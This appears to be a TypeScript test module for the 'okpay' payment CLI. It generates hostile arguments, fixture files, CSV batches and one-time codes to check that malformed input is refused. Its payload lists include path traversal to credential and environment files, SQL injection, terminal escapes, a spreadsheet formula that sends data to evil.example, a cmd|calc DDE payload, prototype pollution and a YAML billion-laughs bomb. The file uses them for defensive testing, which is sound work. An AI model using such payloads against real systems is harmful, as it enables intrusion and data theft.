// The hostile-input corpus: every command and every flag of the commander tree (walked from
// buildProgram, so a new flag is covered the day it is added), each given values meant to break
// parsers — empty, huge, negative, exponents, Unicode digits, control characters, path tricks,
// unknown ids — with every other slot filled with a sensible value, so that the hostile value is
// what the command has to deal with. Plus hostile files: fixture files with wrong types, broken
// batch CSV, and malformed one-time codes.

import type { CommandUnknownOpts } from '@commander-js/extra-typings';

export interface OptionSpec {
  readonly flag: string;
  readonly takesValue: boolean;
  readonly mandatory: boolean;
}

export interface CommandSpec {
  readonly path: readonly string[];
  readonly args: readonly { readonly name: string; readonly required: boolean }[];
  readonly options: readonly OptionSpec[];
}

/** Every command that does something (has an action), with its arguments and options. */
export function commandSpecs(program: CommandUnknownOpts): CommandSpec[] {
  const specs: CommandSpec[] = [];
  const walk = (command: CommandUnknownOpts, path: string[]): void => {
    for (const sub of command.commands) {
      const subPath = [...path, sub.name()];
      const hasAction = (sub as unknown as { _actionHandler: unknown })._actionHandler !== null;
      if (hasAction && sub.name() !== 'help') {
        specs.push({
          path: subPath,
          args: sub.registeredArguments.map((a) => ({ name: a.name(), required: a.required })),
          options: sub.options
            .filter((o) => o.long !== undefined && o.long !== '--help')
            .map((o) => ({ flag: o.long ?? '', takesValue: o.required || o.optional, mandatory: o.mandatory })),
        });
      }
      walk(sub, subPath);
    }
  };
  walk(program, []);
  return specs;
}

export interface Hostile {
  readonly label: string;
  readonly value: string;
}

const HUGE = 'x'.repeat(100 * 1024);

/** Values for any text slot. */
export const HOSTILE_VALUES: readonly Hostile[] = [
  { label: 'empty', value: '' },
  { label: 'blank', value: '   ' },
  { label: 'huge (100 kB)', value: HUGE },
  { label: 'huge digits', value: '9'.repeat(100 * 1024) },
  { label: 'negative', value: '-5' },
  { label: 'negative zero', value: '-0' },
  { label: 'exponent', value: '1e3' },
  { label: 'tiny exponent', value: '5e-324' },
  { label: 'NaN', value: 'NaN' },
  { label: 'Infinity', value: 'Infinity' },
  { label: 'hex', value: '0x10' },
  { label: 'thousands separator', value: '1,000.00' },
  { label: 'too many decimals', value: '1.001' },
  { label: 'beyond 2^53', value: '90071992547409930' },
  { label: 'fullwidth digits', value: '１２３' },
  { label: 'Arabic-Indic digits', value: '١٢٣' },
  { label: 'Devanagari digits', value: '१२३' },
  { label: 'superscript digits', value: '¹²³' },
  { label: 'NUL byte', value: 'ab\u0000cd' },
  { label: 'terminal escape', value: '\u001b[31mred\u001b[0m\u001b]0;title\u0007' },
  { label: 'newline', value: 'line one\nokpay: forged second line' },
  { label: 'carriage return', value: 'abc\rxyz' },
  { label: 'right-to-left override', value: 'safe\u202egnp.exe' },
  { label: 'right-to-left isolate', value: 'pay \u2067100\u2069 back' },
  { label: 'line separator', value: 'line one\u2028okpay: forged second line' },
  { label: 'C1 control sequence', value: 'a\u009b2Jb' },
  { label: 'terminal title and hyperlink escape', value: '\u001b]0;pwned\u0007\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\' },
  { label: 'spreadsheet formula', value: '=HYPERLINK("http://evil.example/?x="&A1,"details")' },
  { label: 'spreadsheet formula after @', value: '@SUM(1+1)' },
  { label: 'spreadsheet command', value: '+1+cmd|calc' },
  { label: 'zero-width joiner', value: 'a\u200db' },
  { label: 'lone surrogate', value: 'a\ud800b' },
  { label: 'emoji', value: '💸💸💸' },
  { label: 'path traversal', value: '../../etc/passwd' },
  { label: 'device file', value: '/dev/zero' },
  { label: 'proc file', value: '/proc/self/environ' },
  { label: 'format string', value: '%s%s%n%x' },
  { label: 'SQL', value: "'; DROP TABLE users; --" },
  { label: 'fixture reference', value: '${alice.id}' },
  { label: 'prototype key', value: '__proto__' },
  { label: 'constructor key', value: 'constructor' },
  { label: 'unknown transaction', value: 'txn_9999999999' },
  { label: 'unknown withdrawal', value: 'wd_doesnotexist' },
  { label: 'unknown mail', value: 'msg_999999' },
  { label: 'unknown ticket', value: '999999' },
  { label: 'unknown email', value: 'nobody-here@example.com' },
  { label: 'option-looking', value: '--yes' },
];

/** Flags that name a file okpay writes: only values that cannot clobber anything real. */
export const WRITE_PATH_FLAGS = new Set(['--output', '--dir', '--html']);

export const WRITE_PATH_VALUES: readonly Hostile[] = [
  { label: 'empty', value: '' },
  { label: 'huge (100 kB)', value: `/tmp/${HUGE}` },
  { label: 'device full', value: '/dev/full' },
  { label: 'missing directory', value: '/proc/okpay-missing/sub/file' },
  { label: 'a directory', value: '/proc' },
  { label: 'an existing file as a directory', value: '/proc/version' },
  { label: 'NUL byte', value: '/tmp/ab\u0000cd' },
  { label: 'a symbolic link', value: '/dev/stdout' },
  { label: 'terminal escape in a missing directory', value: '/proc/okpay-missing/\u001b]0;pwned\u0007' },
];

/** Sensible values for the other slots, by option or argument name. */
export interface Baseline {
  readonly values: Readonly<Record<string, string>>;
}

/**
 * argv for one command: its words, its arguments and its mandatory options filled from the
 * baseline, except `override`, whose slot (an argument `<name>` or an option `--flag`) gets the
 * given value instead.
 */
export function buildArgv(spec: CommandSpec, baseline: Baseline, override?: { slot: string; value: string | null }): string[] {
  const argv = [...spec.path];
  const key = spec.path.join(' ');
  for (const a of spec.args) {
    const slot = `<${a.name}>`;
    const value = override?.slot === slot ? override.value : (baseline.values[`${key} ${slot}`] ?? baseline.values[slot] ?? (a.required ? 'x' : null));
    if (value !== null) argv.push(value);
  }
  for (const o of spec.options) {
    if (override?.slot === o.flag || !o.mandatory) continue;
    argv.push(o.flag, baseline.values[`${key} ${o.flag}`] ?? baseline.values[o.flag] ?? 'x');
  }
  if (override?.slot.startsWith('--')) argv.push(...(override.value === null ? [override.slot] : [override.slot, override.value]));
  return argv;
}

export interface HostileCase {
  readonly command: string;
  readonly slot: string;
  readonly label: string;
  readonly argv: readonly string[];
}

/** Every hostile value in every slot (argument or option) of every command. */
export function hostileCases(specs: readonly CommandSpec[], baseline: Baseline): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const spec of specs) {
    const command = spec.path.join(' ');
    const writes = spec.options.some((o) => WRITE_PATH_FLAGS.has(o.flag));
    const add = (slot: string, label: string, value: string | null) => cases.push({ command, slot, label, argv: buildArgv(spec, baseline, { slot, value }) });
    for (const a of spec.args) for (const h of writes ? WRITE_PATH_VALUES : HOSTILE_VALUES) add(`<${a.name}>`, h.label, h.value);
    for (const o of spec.options) {
      if (!o.takesValue) {
        cases.push({ command, slot: o.flag, label: 'a value for a switch', argv: [...buildArgv(spec, baseline), `${o.flag}=surprise`] });
        continue;
      }
      for (const h of WRITE_PATH_FLAGS.has(o.flag) ? WRITE_PATH_VALUES : HOSTILE_VALUES) add(o.flag, h.label, h.value);
      add(o.flag, 'missing value', null);
    }
    cases.push({ command, slot: '(extra)', label: 'unknown option', argv: [...buildArgv(spec, baseline), '--no-such-option'] });
  }
  return cases;
}

// ---- hostile files ---------------------------------------------------------------------------------

/** Fixture files that are wrong in shape or type; each must be refused whole. */
export const HOSTILE_FIXTURES: readonly Hostile[] = [
  { label: 'empty file', value: '' },
  { label: 'not JSON', value: '{ users: [' },
  { label: 'JSON null', value: 'null' },
  { label: 'a JSON array', value: '[1, 2, 3]' },
  { label: 'a number', value: '42' },
  { label: 'users is an object', value: '{"users": {"name": "a"}}' },
  { label: 'user is a string', value: '{"users": ["alice"]}' },
  { label: 'email is a number', value: '{"users": [{"name": "a", "email": 42, "password": "Harbour-lights-42!"}]}' },
  { label: 'balance is a boolean', value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"USD": true}}]}' },
  {
    label: 'balance is a fraction of a cent',
    value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"USD": 0.001}}]}',
  },
  { label: 'balance beyond 2^53', value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"USD": 1e300}}]}' },
  {
    label: 'balance with an exponent',
    value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"USD": "1e3"}}]}',
  },
  {
    label: 'balance past what one account may hold',
    value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"USD": "10000000000.01"}}]}',
  },
  {
    label: 'balance at Number.MAX_SAFE_INTEGER',
    value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"USD": "90071992547409.91"}}]}',
  },
  { label: 'negative balance', value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"USD": "-5.00"}}]}' },
  { label: 'unknown currency', value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"XXX": "5.00"}}]}' },
  { label: 'weak password', value: '{"users": [{"name": "a", "email": "a@example.com", "password": "short"}]}' },
  { label: 'password past 72 bytes', value: `{"users": [{"name": "a", "email": "a@example.com", "password": "Aa1!${'x'.repeat(80)}"}]}` },
  { label: 'unknown field', value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "isAdmin": true}]}' },
  { label: 'unknown section', value: '{"wallets": []}' },
  { label: 'role is an object', value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "role": {"admin": true}}]}' },
  {
    label: 'duplicate names',
    value:
      '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!"}, {"name": "a", "email": "b@example.com", "password": "Harbour-lights-42!"}]}',
  },
  { label: 'unknown reference', value: '{"transfers": [{"from": "ghost", "to": "${nobody.email}", "amount": "5.00", "currency": "USD"}]}' },
  {
    label: 'reference to a later entry',
    value:
      '{"users": [{"name": "a", "email": "${b.email}", "password": "Harbour-lights-42!"}, {"name": "b", "email": "b@example.com", "password": "Harbour-lights-42!"}]}',
  },
  {
    label: 'prototype pollution',
    value: '{"__proto__": {"polluted": true}, "users": [{"name": "__proto__", "email": "p@example.com", "password": "Harbour-lights-42!"}]}',
  },
  {
    label: 'transfer amount is an array',
    value:
      '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"USD": "50.00"}}], "transfers": [{"from": "a", "to": "x@example.com", "amount": ["5"], "currency": "USD"}]}',
  },
  {
    label: 'expectation that fails',
    value:
      '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "balances": {"USD": "50.00"}}], "expect": {"balances": {"a": {"USD": "51.00"}}}}',
  },
  { label: 'relative time nonsense', value: '{"users": [{"name": "a", "email": "a@example.com", "password": "Harbour-lights-42!", "at": "-999999999d"}]}' },
  {
    label: 'YAML billion laughs',
    value:
      'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\nusers: *f\n',
  },
  { label: 'YAML custom tag', value: 'users: !!js/function "function () { return 1 }"\n' },
];

/** Batch CSV files with broken rows; each must be refused before any money moves. */
export const HOSTILE_CSV: readonly Hostile[] = [
  { label: 'empty file', value: '' },
  { label: 'header only', value: 'to,amount,currency,memo,reference\n' },
  { label: 'no header', value: 'bob@example.com,5.00,USD,,\n' },
  { label: 'unterminated quote', value: 'to,amount,currency,memo,reference\nbob@example.com,5.00,USD,"lunch,r1\n' },
  { label: 'too few columns', value: 'to,amount,currency,memo,reference\nbob@example.com,5.00\n' },
  { label: 'too many columns', value: 'to,amount,currency,memo,reference\nbob@example.com,5.00,USD,m,r1,extra,more\n' },
  { label: 'negative amount', value: 'to,amount,currency,memo,reference\nbob@example.com,-5.00,USD,,r1\n' },
  { label: 'exponent amount', value: 'to,amount,currency,memo,reference\nbob@example.com,1e2,USD,,r1\n' },
  { label: 'Unicode digits', value: 'to,amount,currency,memo,reference\nbob@example.com,５.００,USD,,r1\n' },
  { label: 'NUL byte', value: 'to,amount,currency,memo,reference\nbob@example.com,5.00,USD,a\u0000b,r1\n' },
  {
    label: 'one bad row among good ones',
    value: 'to,amount,currency,memo,reference\nbob@example.com,1.00,USD,,r1\nnot-an-email,1.00,USD,,r2\nbob@example.com,1.00,USD,,r3\n',
  },
  { label: 'duplicate references', value: 'to,amount,currency,memo,reference\nbob@example.com,1.00,USD,,r1\nbob@example.com,1.00,USD,,r1\n' },
  { label: 'binary garbage', value: '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR' },
  {
    label: 'too many rows',
    value: `to,amount,currency,memo,reference\n${Array.from({ length: 10_001 }, (_, i) => `bob@example.com,0.01,USD,,r${i}`).join('\n')}\n`,
  },
  { label: 'a formula', value: 'to,amount,currency,memo,reference\n=HYPERLINK("http://x"),1.00,USD,,r1\n' },
];

/** One-time codes that are not six ASCII digits. */
export const HOSTILE_OTPS: readonly Hostile[] = [
  { label: 'five digits', value: '12345' },
  { label: 'seven digits', value: '1234567' },
  { label: 'letters', value: 'abcdef' },
  { label: 'Unicode digits', value: '١٢٣٤٥٦' },
  { label: 'fullwidth digits', value: '１２３４５６' },
  { label: 'spaces', value: ' 123 456 ' },
  { label: 'negative', value: '-12345' },
  { label: 'exponent', value: '1e5' },
  { label: 'empty', value: '' },
  { label: 'huge', value: '1'.repeat(100 * 1024) },
  { label: 'recovery code shape, wrong', value: 'aaaaa-bbbbb' },
  { label: 'NUL byte', value: '123\u0000456' },
];
